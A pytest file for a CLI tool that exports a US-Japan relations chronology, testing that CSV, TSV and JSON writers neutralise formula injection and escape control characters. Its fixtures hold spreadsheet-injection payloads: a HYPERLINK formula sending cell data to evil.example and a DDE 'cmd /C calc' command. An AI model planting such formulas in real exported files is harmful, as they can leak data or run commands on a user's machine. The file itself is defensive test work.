"""The writers against hostile text: spreadsheet formulas, line breaks and controls in JSON.

(Calendar injection is tested in test_calendars.py.)"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest

from ustojapan_cli import export, parse, text
from ustojapan_cli.actors import load_registry
from ustojapan_cli.export import Grid, from_jsonl, grid_csv, grid_tsv, neutralise, to_csv, to_json, to_jsonl, to_tsv

REGISTRY = load_registry()


@pytest.mark.parametrize(("cell", "expected"), [
    ("=HYPERLINK(\"http://evil\",\"x\")", "'=HYPERLINK(\"http://evil\",\"x\")"),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("＝1+1", "'＝1+1"),  # full-width, as a Japanese input method types it
    ("Kishida = Prime Minister", "Kishida = Prime Minister"),  # not at the start: harmless
    ("", ""),
    ("2023-11-14", "2023-11-14"),
])
def test_neutralise(cell: str, expected: str) -> None:
    assert neutralise(cell) == expected


HOSTILE_CHRONOLOGY = (
    "Chronology of US - Japan Relations\n\n"
    "Jan. 2, 2020: =HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") and Kishida meet.\n"
    "Jan. 3, 2020: @cmd|' /C calc'!A0 is what Biden says.\n"
)


def test_csv_from_a_hostile_chronology_is_inert_by_default() -> None:
    events = parse(HOSTILE_CHRONOLOGY, "evil.txt", REGISTRY).events
    rows = list(csv.DictReader(io.StringIO(to_csv(events), newline="")))
    assert [r["text"] for r in rows] == [
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") and Kishida meet.",
        "'@cmd|' /C calc'!A0 is what Biden says.",
    ]
    raw = list(csv.DictReader(io.StringIO(to_csv(events, safe=False), newline="")))
    assert raw[0]["text"].startswith("=HYPERLINK(")  # --keep-formulas keeps them


def test_tsv_neutralised_only_when_asked() -> None:
    grid = Grid(("text", "n"), (("=1+1", 3), ("plain\ttext\nmore", 4)))
    assert grid_tsv(grid, safe=True) == "text\tn\n'=1+1\t3\nplain text more\t4\n"
    assert grid_tsv(grid) == "text\tn\n=1+1\t3\nplain text more\t4\n"
    assert to_tsv(parse(HOSTILE_CHRONOLOGY, "evil.txt", REGISTRY).events).splitlines()[1].split("\t")[9] \
        .startswith("=HYPERLINK")  # `usjp events` into a pipe: the data as it is


def test_csv_numbers_are_not_neutralised() -> None:
    assert grid_csv(Grid(("n",), ((-3,),))) == "n\r\n-3\r\n"


def test_json_escapes_what_readers_take_for_line_ends_or_controls() -> None:
    (event,) = parse("Jan. 2, 2020: a\u2028b \x85 c \x9b31m d \u2029 e", "t.txt", REGISTRY).events
    text = event.text
    assert "\u2028" not in text  # the parser squashes Unicode line breaks already ...
    assert "\x9b" in text  # ... but keeps a C1 control as written
    for out in (to_json([event]), to_jsonl([event])):
        assert "\x9b" not in out and "\\u009b" in out
    assert json.loads(to_json([event]))[0]["text"] == text
    assert from_jsonl(to_jsonl([event])) == [event]


def test_a_row_is_the_models_json_flattened_and_each_day_formatted_once() -> None:
    """`cells` reads the fields from the model's `__dict__` and remembers each day's ISO form:
    the row still says what the model's JSON says, and a day met again is not formatted again."""
    events = parse(HOSTILE_CHRONOLOGY + "Jan. 3, 2020: Kishida and Biden meet.\n", "evil.txt", REGISTRY).events
    days = text.iso_day.__self__  # the days formatted so far, each with its ISO form
    days.clear()
    for event in events:
        data = event.model_dump(mode="json")
        assert export.row(event) == {
            "id": data["id"], "start": data["start"], "end": data["end"], "kind": data["kind"],
            "format": data["format"], "countries": "; ".join(data["countries"]),
            "actors": "; ".join(a["name"] for a in data["actors"]), "venue_city": "", "venue_country": "",
            "text": data["text"], "document": "evil.txt", "line": str(data["source"]["line"])}
    assert sorted(days) == [dt.date(2020, 1, 2), dt.date(2020, 1, 3)]  # two days, each formatted once
    assert all(text.iso_day(day) is days[day] for day in days)  # met again: the same string, not a new one


def test_the_days_remembered_are_bounded() -> None:
    days = text.iso_day.__self__
    first = dt.date(1900, 1, 1)
    for n in range(days.MOST + 10):
        assert text.iso_day(first + dt.timedelta(days=n)) == (first + dt.timedelta(days=n)).isoformat()
    assert 0 < len(days) <= days.MOST


def test_an_events_json_runs_no_python_and_says_each_enum_as_its_value() -> None:
    """The enums of an event (its format, kind, and each actor's level) are serialized as the
    strings they are (`models.AS_STRING`), not by their `.value` property, a Python call each."""
    import sys

    from ustojapan_cli.models import Event

    (event,) = parse("Jan. 3, 2020: Kishida and Biden meet by phone.\n", "t.txt", REGISTRY).events
    called: list[str] = []
    sys.setprofile(lambda frame, what, arg: called.append(frame.f_code.co_name) if what == "call" else None)
    try:
        out = Event.__pydantic_serializer__.to_json(event)
    finally:
        sys.setprofile(None)
    assert called == []
    data = json.loads(out)
    levels = [a["level"] for a in data["actors"]]
    assert (data["kind"], data["format"], levels) == ("call", "bilateral", ["national"] * 2)
    assert json.loads(event.model_dump_json()) == event.model_dump(mode="json") == data
    assert type(event.model_dump()["kind"]) is type(event.kind)  # Python mode: still the enum


def test_a_row_names_every_source_of_a_merged_event_and_nobody_when_nobody_is_named() -> None:
    """`cells` joins the sources of an event reported by several chronologies (an event as read has
    one, written without a list joined), and the names of its people (none: an empty cell)."""
    from ustojapan_cli.sources import also_reported

    (first,) = parse("Jan. 3, 2020: Kishida and Biden meet.\n", "a.txt", REGISTRY).events
    (second,) = parse("\nJan. 3, 2020: Kishida and Biden meet in Tokyo.\n", "b.txt", REGISTRY).events
    (nobody,) = parse("Jan. 4, 2020: A typhoon hits Okinawa.\n", "c.txt", REGISTRY).events
    merged = export.row(also_reported(first, second))
    assert (merged["document"], merged["line"]) == ("a.txt; b.txt", "1; 2")
    assert merged["actors"] == "Kishida Fumio; Joe Biden"
    assert (export.row(first)["document"], export.row(first)["line"]) == ("a.txt", "1")
    assert export.row(nobody)["actors"] == ""


def test_event_json_is_the_models_own_for_every_fixture_event() -> None:
    # what the store writes of every event read, without the model, is the model's JSON
    from conftest import FIXTURES
    from ustojapan_cli import load
    from ustojapan_cli.sources import merge

    chronologies = [load(path) for path in sorted(FIXTURES.glob("*.txt"))] + [load()]
    events = [e for c in chronologies for e in c.events] + list(merge(chronologies).events)
    assert any(len(e.sources) > 1 for e in events) and any(e.flags for e in events)
    assert any(e.venue and e.venue.city is None for e in events)
    for event in events:
        assert export.event_json(event.__dict__) == event.model_dump_json()
